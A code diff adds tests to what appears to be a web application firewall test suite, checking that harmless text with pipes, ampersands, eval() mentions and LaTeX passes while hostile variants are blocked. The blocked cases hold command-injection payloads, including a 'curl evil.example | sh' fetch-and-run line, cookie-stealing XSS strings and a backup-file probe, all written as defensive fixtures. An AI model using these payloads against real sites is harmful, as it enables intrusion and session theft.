@@ -1300,3 +1300,39 @@ describe('waf API profile: attacks held-out 10 found missed (session 7)', () => 
     }
   });
 });
+
+describe('waf API profile: headlines, e-mail paths, show notes, equations, chat (held-out 10, session 7)', () => {
+  test('typographic pipes and ampersands, an e-mail in the path, eval() in show notes, LaTeX titles, ping me pass', async () => {
+    for (const init of [
+      post({ headline: 'Full-stack dev | Node, React & SQL | 100% JSS' }),
+      { method: 'DELETE', path: '/v3/contacts/j.smith%2Bpromo%40example.com', headers: { ...ua } },
+      post({
+        html: '<p>Ep. 88 — "Whatever happened to Flash?" with @kerri. We cover ActionScript, eval() and why Adobe pulled the plug.</p>',
+      }),
+      post({
+        body: '<p>Key equation: <img class="equation_image" title="pH = -\\log_{10}[H^+]" src="/equation_images/pH%2520%253D%2520-%255Clog_%257B10%257D?scale=1" alt="LaTeX: pH = -\\log_{10}[H^+]"></p>',
+      }),
+      post({ content: 'brb, grabbing coffee. if the deploy breaks just revert && ping me' }),
+    ] as Init[]) {
+      assert.equal((await run(api, init)).error, undefined, JSON.stringify(init?.path));
+    }
+  });
+
+  test('the same places with payloads are blocked', async () => {
+    for (const init of [
+      post({ headline: 'Full-stack dev | whoami | 100% JSS' }),
+      post({ headline: 'Full-stack dev | curl evil.example | sh' }),
+      { method: 'GET', path: '/backup/site.com', headers: { ...ua } },
+      post({ html: '<p>We cover ActionScript");alert(document.cookie);//</p>' }),
+      post({ body: '<img title="x" src="/a\\u0022onerror=alert(1)">' }),
+      post({ content: 'brb, grabbing coffee. if the deploy breaks just revert && ping -c 30 127.0.0.1' }),
+      post({ content: 'brb, grabbing coffee. if the deploy breaks just revert; curl metadata please' }),
+    ] as Init[]) {
+      assert.equal(
+        (await run(api, init)).error?.status,
+        403,
+        JSON.stringify(init?.path ?? init?.body?.toString()),
+      );
+    }
+  });
+});
